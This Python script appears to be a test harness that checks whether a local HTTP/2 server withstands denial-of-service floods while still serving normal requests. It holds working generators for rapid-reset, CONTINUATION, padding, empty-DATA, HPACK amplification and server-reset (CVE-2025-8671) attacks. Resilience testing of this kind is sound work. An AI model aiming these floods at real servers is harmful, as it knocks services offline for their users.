"""Floods a server over HTTP/2, and sends well-behaved requests on other connections meanwhile.

Reads {"port", "certificate", "attack"} on standard input, and prints {"is_cut_off", "served", "failed"}.
"""

import json
import select
import socket
import ssl
import sys
import threading
import time

import h2.connection
import h2.events
import hpack
from hyperframe import frame

# Only a server that does not cut the attack off lets it last that long.
DEADLINE = 30
MAX_BYTES = 200_000_000
HEAD = [(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", "/health")]
UPLOAD = [(":method", "POST"), (":scheme", "https"), (":authority", "localhost"), (":path", "/orders")]


def connect(task):
    context = ssl.create_default_context(cadata=task["certificate"])
    context.set_alpn_protocols(["h2"])
    raw = socket.create_connection(("127.0.0.1", task["port"]), timeout=DEADLINE)
    return context.wrap_socket(raw, server_hostname="localhost")


def exchange(task):
    """Sends a request, and returns whether it succeeds."""
    with connect(task) as stream:
        connection = h2.connection.H2Connection()
        connection.initiate_connection()
        connection.send_headers(1, HEAD, end_stream=True)
        stream.sendall(connection.data_to_send())
        while received := stream.recv(65536):
            for event in connection.receive_data(received):
                if isinstance(event, h2.events.ResponseReceived):
                    return dict(event.headers)[b":status"] == b"200"
            stream.sendall(connection.data_to_send())
    return False


def headers(stream_id, block, *flags):
    begin = frame.HeadersFrame(stream_id, data=block)
    for flag in flags:
        begin.flags.add(flag)
    return begin.serialize()


def requests(head, *flags):
    """Yields the frames of requests on one stream after another, with the number of the stream."""
    encoder = hpack.Encoder()
    for stream_id in range(1, 2**31, 2):
        yield stream_id, headers(stream_id, encoder.encode(head), "END_HEADERS", *flags)


def continuations(block):
    yield headers(1, hpack.Encoder().encode(HEAD), "END_STREAM")
    while True:
        yield frame.ContinuationFrame(1, data=block).serialize()


def continuation():
    return continuations(hpack.Encoder().encode([("x-padding", "a" * 8000)]))


def empty_continuation():
    return continuations(b"")


def rapid_reset():
    for stream_id, request in requests(HEAD, "END_STREAM"):
        yield request + frame.RstStreamFrame(stream_id, error_code=8).serialize()


def server_resets():
    """The server must reset each stream itself (CVE-2025-8671)."""
    for stream_id, request in requests(UPLOAD):
        yield request + frame.WindowUpdateFrame(stream_id, window_increment=2**31 - 1).serialize()


def malformed_requests():
    for _, request in requests([("Upper-Case", "x"), *HEAD], "END_STREAM"):
        yield request


def empty_data():
    _, request = next(requests(UPLOAD))
    yield request
    while True:
        yield frame.DataFrame(1, data=b"").serialize() * 100


def padding():
    _, request = next(requests(UPLOAD))
    yield request
    padded = frame.DataFrame(1, data=b"", pad_length=255)
    padded.flags.add("PADDED")
    while True:
        yield padded.serialize() * 10


def header_list():
    """A short block of references to one long field."""
    encoder = hpack.Encoder()
    yield headers(1, encoder.encode([*HEAD, ("x-long", "a" * 3900)]), "END_HEADERS", "END_STREAM")
    for stream_id in range(3, 2**31, 2):
        block = encoder.encode(HEAD) + b"\xbe" * 15000
        yield headers(stream_id, block, "END_HEADERS", "END_STREAM")


def attack(task, frames):
    """Sends frames until the server closes the connection, and returns whether it does."""
    end = time.monotonic() + DEADLINE
    sent = 0
    try:
        stream = connect(task)
        stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame.SettingsFrame(0).serialize())
        for data in frames:
            stream.sendall(data)
            sent += len(data)
            while stream.pending() or select.select([stream], [], [], 0)[0]:
                if not stream.recv(65536):
                    return True
            if sent > MAX_BYTES or time.monotonic() > end:
                return False
    except OSError as error:
        return not isinstance(error, TimeoutError)


def main():
    task = json.load(sys.stdin)
    served, failed, done = 0, 0, threading.Event()

    def behave():
        nonlocal served, failed
        while not done.is_set() or served + failed < 5:
            try:
                is_served = exchange(task)
            except OSError:
                is_served = False
            served += is_served
            failed += not is_served

    client = threading.Thread(target=behave)
    client.start()
    try:
        is_cut_off = attack(task, globals()[task["attack"]]())
    finally:
        done.set()
        client.join()
    print(json.dumps({"is_cut_off": is_cut_off, "served": served, "failed": failed}))


main()
